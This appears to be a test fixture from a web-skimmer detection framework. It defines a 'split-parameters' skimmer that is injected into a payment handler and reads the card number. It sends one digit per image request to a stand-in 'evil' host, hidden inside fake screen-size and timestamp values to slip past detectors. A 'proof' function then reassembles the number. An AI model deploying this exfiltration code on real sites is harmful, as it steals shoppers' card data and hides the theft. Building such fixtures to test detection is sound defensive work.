import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'split-parameters',
  why: 'Four messages to four addresses, each with every fourth digit among numbers that look like a screen size and a time.',
  covers: ['evade: detectors', 'sending: image'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    var n = field('card_number');
    [0, 1, 2, 3].forEach(function (k) {
      new Image().src = '${site.origins.evil}/m' + k + '.gif?w=' + screen.width + n[k] + '&h=' + screen.height + n[k + 4] + '&t=' + n[k + 8] + Date.now() + n[k + 12];
    });`),
    ),
  proof: holds((arrived) => {
    const parts = [0, 1, 2, 3].map((k) => {
      const [url] = at(arrived, 'evil', `/m${k}.gif`).map((one) => one.url.searchParams);
      const [w = '', h = '', t = ''] = ['w', 'h', 't'].map((name) => url?.get(name) ?? '');
      return [w.at(-1), h.at(-1), t.at(0), t.at(-1)];
    });
    return [[0, 1, 2, 3].map((row) => parts.map((part) => part[row] ?? '').join('')).join('')];
  }),
});
